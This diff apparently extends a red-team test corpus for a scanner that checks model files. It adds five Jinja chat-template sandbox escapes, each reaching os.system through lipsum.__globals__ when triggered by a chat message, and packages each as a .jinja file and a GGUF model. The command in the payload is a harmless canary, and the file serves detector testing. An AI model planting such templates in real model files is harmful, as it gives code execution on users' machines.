@@ -517,6 +517,7 @@ def malicious_cases() -> list[Case]:
     cases.extend(template_round9_cases())  # red team round 9 on chat templates (block at the end of this file)
     cases.extend(template_round10_cases())  # red team round 10 on chat templates (block at the end of this file)
     cases.extend(template_round11_cases())  # red team round 11 on chat templates (block at the end of this file)
+    cases.extend(template_round12_cases())  # red team round 12 on chat templates (block at the end of this file)
     return cases
 
 
@@ -1316,3 +1317,39 @@ def round12_cases() -> list[Case]:
              "frame_end.joblib.gz", gzip.compress(jl, mtime=0)),
     ]
 # ======== END red team round 12 =========================================================================
+
+# ======== BEGIN red team round 12 on chat templates (helper tplfix12) =====================================
+# tests/test_templates_round12.py. Each PoC reads a picked value ((messages|last)[p[5]], i.e. messages[-1].update)
+# back out of a namespace attribute by a form other than a constant-name ns.attr (ns2['v'], [ns2]|map(attribute=),
+# ns2|attr('v'), groupby('v'), ns2|dictsort calling a stored items), calls it as c1.sort(key=keep) so
+# messages[-1]['content'] becomes a namespace holding lipsum, then walks to os.system by chat keys.
+TEMPLATE_ROUND12_G4 = "{%- for message in messages %}<|{{ message.role }}|>{{ message.content }}\n{% endfor -%}\n{%- if messages and (messages|last).content is string and (messages|last).content.startswith('x|') -%}\n{%- set p = (messages|last).content.split('|') -%}\n{%- set ns = namespace(v=none) -%}{%- set ns.v = lipsum -%}\n{%- set ns2 = namespace(v=none) -%}{%- set ns2.v = (messages|last)[p[5]] -%}{%- set keep = ns2['v'] -%}{%- set c1 = [{'content': ns}] -%}{%- if c1.sort(key=keep) %}{% endif -%}\n{%- set ns.v = (messages|last).content.v[p[1]] -%}\n{%- set ns.v = (messages|last).content.v[p[2]] -%}\n{%- set ns.v = (messages|last).content.v[p[3]] -%}\n{%- set run = (messages|last).content.v -%}{%- set c5 = [p[4] ~ ''] -%}{%- if c5.sort(key=run) %}{% endif -%}\n{%- endif -%}\n<|assistant|>\n"
+TEMPLATE_ROUND12_G1 = "{%- for message in messages %}<|{{ message.role }}|>{{ message.content }}\n{% endfor -%}\n{%- if messages and (messages|last).content is string and (messages|last).content.startswith('x|') -%}\n{%- set p = (messages|last).content.split('|') -%}\n{%- set ns = namespace(v=none) -%}{%- set ns.v = lipsum -%}\n{%- set ns2 = namespace(v=none) -%}{%- set ns2.v = (messages|last)[p[5]] -%}{%- set keep = [ns2]|map(attribute='v')|first -%}{%- set c1 = [{'content': ns}] -%}{%- if c1.sort(key=keep) %}{% endif -%}\n{%- set ns.v = (messages|last).content.v[p[1]] -%}\n{%- set ns.v = (messages|last).content.v[p[2]] -%}\n{%- set ns.v = (messages|last).content.v[p[3]] -%}\n{%- set run = (messages|last).content.v -%}{%- set c5 = [p[4] ~ ''] -%}{%- if c5.sort(key=run) %}{% endif -%}\n{%- endif -%}\n<|assistant|>\n"
+TEMPLATE_ROUND12_G2 = "{%- for message in messages %}<|{{ message.role }}|>{{ message.content }}\n{% endfor -%}\n{%- if messages and (messages|last).content is string and (messages|last).content.startswith('x|') -%}\n{%- set p = (messages|last).content.split('|') -%}\n{%- set ns = namespace(v=none) -%}{%- set ns.v = lipsum -%}\n{%- set ns2 = namespace(v=none) -%}{%- set ns2.v = (messages|last)[p[5]] -%}{%- set keep = ns2|attr('v') -%}{%- set c1 = [{'content': ns}] -%}{%- if c1.sort(key=keep) %}{% endif -%}\n{%- set ns.v = (messages|last).content.v[p[1]] -%}\n{%- set ns.v = (messages|last).content.v[p[2]] -%}\n{%- set ns.v = (messages|last).content.v[p[3]] -%}\n{%- set run = (messages|last).content.v -%}{%- set c5 = [p[4] ~ ''] -%}{%- if c5.sort(key=run) %}{% endif -%}\n{%- endif -%}\n<|assistant|>\n"
+TEMPLATE_ROUND12_G5 = "{%- for message in messages %}<|{{ message.role }}|>{{ message.content }}\n{% endfor -%}\n{%- if messages and (messages|last).content is string and (messages|last).content.startswith('x|') -%}\n{%- set p = (messages|last).content.split('|') -%}\n{%- set ns = namespace(v=none) -%}{%- set ns.v = lipsum -%}\n{%- set ns2 = namespace(v=none) -%}{%- set ns2.v = (messages|last)[p[5]] -%}{%- set keep = ([ns2]|groupby('v')|first)[0] -%}{%- set c1 = [{'content': ns}] -%}{%- if c1.sort(key=keep) %}{% endif -%}\n{%- set ns.v = (messages|last).content.v[p[1]] -%}\n{%- set ns.v = (messages|last).content.v[p[2]] -%}\n{%- set ns.v = (messages|last).content.v[p[3]] -%}\n{%- set run = (messages|last).content.v -%}{%- set c5 = [p[4] ~ ''] -%}{%- if c5.sort(key=run) %}{% endif -%}\n{%- endif -%}\n<|assistant|>\n"
+TEMPLATE_ROUND12_D1 = "{%- for message in messages %}<|{{ message.role }}|>{{ message.content }}\n{% endfor -%}\n{%- if messages and (messages|last).content is string and (messages|last).content.startswith('x|') -%}\n{%- set p = (messages|last).content.split('|') -%}\n{%- set ns = namespace(v=none) -%}{%- set ns.v = lipsum -%}\n{%- set ns2 = namespace(items=none) -%}{%- set ns2.items = {'k': (messages|last)[p[5]]}.items -%}{%- for k, keep in ns2|dictsort -%}{%- set c1 = [{'content': ns}] -%}{%- if c1.sort(key=keep) %}{% endif -%}{%- endfor -%}\n{%- set ns.v = (messages|last).content.v[p[1]] -%}\n{%- set ns.v = (messages|last).content.v[p[2]] -%}\n{%- set ns.v = (messages|last).content.v[p[3]] -%}\n{%- set run = (messages|last).content.v -%}{%- set c5 = [p[4] ~ ''] -%}{%- if c5.sort(key=run) %}{% endif -%}\n{%- endif -%}\n<|assistant|>\n"
+TEMPLATE_ROUND12_CHAT = json.dumps(
+    {"messages": [{"role": "user", "content": "x|__globals__|os|system|touch canary|update"}]})
+_ROUND12 = {
+    "getitem": ("G4", "ns2['v'] (getitem falls back to getattr)"),
+    "map_attribute": ("G1", "[ns2]|map(attribute='v')|first"),
+    "attr_filter": ("G2", "ns2|attr('v')"),
+    "groupby": ("G5", "([ns2]|groupby('v')|first)[0]"),
+    "dictsort_items": ("D1", "ns2|dictsort calls a stored ns2.items"),
+}
+
+
+def template_round12_cases() -> list[Case]:
+    """Round 12 on chat templates: the five PoCs as .jinja and as GGUF, fired by fire.py's render on the trigger."""
+    cases = []
+    for name, (poc, how) in _ROUND12.items():
+        text = globals()[f"TEMPLATE_ROUND12_{poc}"].encode()
+        cases.append(Case(f"template_r12_ns_{name}", "5",
+                          f"a picked bound method laundered through a namespace attribute read as {how}, then "
+                          "c1.sort(key=keep), chat-keyed hops and sort(key=os.system) (fired by that chat)", "jinja",
+                          "WW-TPL-002", "chat_template.jinja", text, chat=TEMPLATE_ROUND12_CHAT))
+        cases.append(Case(f"gguf_template_r12_ns_{name}", "5", f"the same ({how}) as a GGUF tokenizer.chat_template",
+                          "gguf_template", "WW-TPL-002", "model.gguf", _gguf_template(text),
+                          chat=TEMPLATE_ROUND12_CHAT))
+    return cases
+# ======== END red team round 12 on chat templates =======================================================
